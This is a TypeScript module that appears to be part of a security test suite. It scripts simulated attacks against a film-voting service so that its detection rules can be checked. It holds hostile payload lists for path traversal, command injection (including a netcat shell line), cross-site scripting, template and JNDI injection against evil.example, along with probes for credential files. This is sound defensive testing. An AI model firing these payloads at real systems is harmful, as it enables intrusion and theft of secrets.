/** Attacks on content and on the service by generators of our own. */
import { addUser, claimAdmin } from '../../test/support/accounts.ts'
import { makeKey } from '../../test/support/keys.ts'
import { addressOf, addressOf6, neighbour, neighbour6 } from './addresses.ts'
import { attack, keepOn, keyHolder } from './attackers.ts'
import type { Scenario } from './scenario.ts'
import { commonPaths } from './word-lists.ts'

const raised = { limits: 'raised' } as const
const lapse = { limits: 'raised', lapse: true } as const

/** Every voter once, for the same film. */
const votes = (name: string, addressAt: (i: number) => string): Scenario =>
  attack(name, ['vote-stuffing'], (field) => keepOn(200, (i) => field.visitor(addressAt(i)).ask('/?like=7')))

/** A film a second, as fast as the route lets one: with the key that the first start leaves. */
const filmSpam = attack(
  'films: 200 of advertisements, by the starter key',
  ['film-spam'],
  async (field) => {
    const visitor = field.visitor(addressOf(21)).as(field.server.key())
    await keepOn(200, (i) => {
      field.pass(1)
      return visitor.ask('/add_film', { method: 'POST', body: { name: `Buy cheap pills no ${i} https://pills.example/${i}` } })
    })
  },
  { field: lapse },
)

const scraping = attack(
  'cursors: every page of the audit, by a key',
  ['cursor-scraping'],
  async (field) => {
    const admin = await claimAdmin(field.server)
    for (let i = 0; i < 12; i++) await addUser(field.server, admin, 'viewer', `viewer-${i}`)
    const { key } = await makeKey(field.server, admin, ['security:read', 'users:read'])
    const visitor = field.visitor(addressOf(22)).as(key)
    let next = '/v1/audit?limit=1'
    await keepOn(200, async () => {
      const answer = await visitor.ask(next)
      const cursor = (JSON.parse(answer.body) as { next?: string | null }).next
      next = cursor == null ? '/v1/users?limit=1' : `${next.split('&')[0]}&cursor=${encodeURIComponent(cursor)}`
      return answer
    })
  },
  { field: raised },
)

const cors = attack('origins: which are let in', ['cors-probing'], async (field) => {
  const visitor = field.visitor(addressOf(23))
  const origins = [
    'null',
    'https://evil.example',
    'http://localhost.evil.example',
    'https://127.0.0.1.evil.example',
    'https://evil.example:8443',
  ]
  await keepOn(60, (i) => {
    const origin = origins[i] ?? `https://${'abcdefghijklmnopqrstuvwxyz'[i % 26]}${i}.evil.example`
    const fields = { Origin: origin, ...(i % 2 === 0 ? {} : { 'Access-Control-Request-Method': 'DELETE' }) }
    return visitor.ask('/v1/films/1', { method: i % 2 === 0 ? 'GET' : 'OPTIONS', fields })
  })
})

/** Goes on as if nothing were said. */
const hammering = attack(
  'limits: 600 requests on, 429 or not',
  ['limit-hammering'],
  async (field) => {
    const visitor = field.visitor(addressOf(24))
    await keepOn(600, () => visitor.ask('/'))
  },
  { within: { requests: 300, seconds: 10 } },
)

const honeyPath = attack('a path that only somebody looking for it asks for', ['honey-route'], async (field) => {
  const visitor = field.visitor(addressOf6(25))
  for (const path of ['/.env', '/.git/config', '/wp-login.php', '/.aws/credentials']) await visitor.ask(path)
})

/** A field at a time, each with what it might not expect. */
const spray = attack(
  'validation: every field with every wrong value',
  ['validation-spray'],
  async (field) => {
    const { key } = await keyHolder(field, 'editor', ['films:write'])
    const visitor = field.visitor(addressOf(26)).as(key)
    const wrong = [null, true, [], {}, -1, 1e308, 'x'.repeat(500), '', '\u0000', 0.5]
    const names = ['name', 'studio', 'year', 'genre', 'director', 'runtime_min', 'rating', '__proto__', 'constructor', 'admin']
    await keepOn(100, (i) => {
      const body = Object.fromEntries([
        ['name', 'A film'],
        [names[i % names.length] ?? '', wrong[Math.floor(i / names.length)]],
      ])
      return visitor.ask('/add_film', { method: 'POST', body })
    })
  },
  { field: raised },
)

const payloads: Readonly<Record<string, readonly string[]>> = {
  traversal: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '....//....//etc/passwd',
    '%2e%2e/%2e%2e/windows/win.ini',
    '..\\..\\boot.ini',
  ],
  command: ['1;cat /etc/passwd', '1|id', '$(id)', '`id`', '1&&whoami', '1;ping -c 3 127.0.0.1', '| nc -e /bin/sh'],
  script: ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '<svg/onload=alert(1)>'],
  template: ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '${jndi:ldap://evil.example/a}'],
}

/** By hand, one a minute, as a person with a browser and patience does. */
const byHand = (kind: string, rules: readonly string[]): Scenario =>
  attack(
    `${kind}: by hand, one a minute`,
    rules,
    async (field) => {
      const visitor = field.visitor(addressOf(30 + kind.length))
      const texts = payloads[kind] ?? []
      await keepOn(40, (i) => {
        field.pass(60)
        const text = encodeURIComponent(texts[i % texts.length] ?? '').replaceAll('%25', '%')
        return visitor.ask(i % 2 === 0 ? `/?like=${text}` : `/v1/films/${text}`)
      })
    },
    { field: lapse },
  )

const slowPaths = attack(
  'paths: a list of 140, one a minute',
  ['path-probing', 'sensitive-files'],
  async (field) => {
    const visitor = field.visitor(addressOf(40))
    await keepOn(commonPaths.length, (i) => {
      field.pass(60)
      return visitor.ask(`/${commonPaths[i]}`)
    })
  },
  { field: lapse },
)

/** One request of each address, so that no limit of a client counts to two. */
const widePaths = attack(
  'paths: a list of 140, each from another address of a /24',
  ['path-probing', 'sensitive-files', 'honey-route'],
  (field) => keepOn(commonPaths.length, (i) => field.visitor(neighbour(i)).ask(`/${commonPaths[i]}`)),
)

export const intruders: readonly Scenario[] = [
  votes('votes: 200 addresses of a /24, one film', neighbour),
  votes('votes: 200 /64s of a /48, one film', neighbour6),
  filmSpam,
  scraping,
  cors,
  hammering,
  honeyPath,
  spray,
  byHand('traversal', ['traversal-probing']),
  byHand('command', ['command-probing']),
  byHand('script', ['script-probing']),
  byHand('template', ['template-probing']),
  slowPaths,
  widePaths,
]
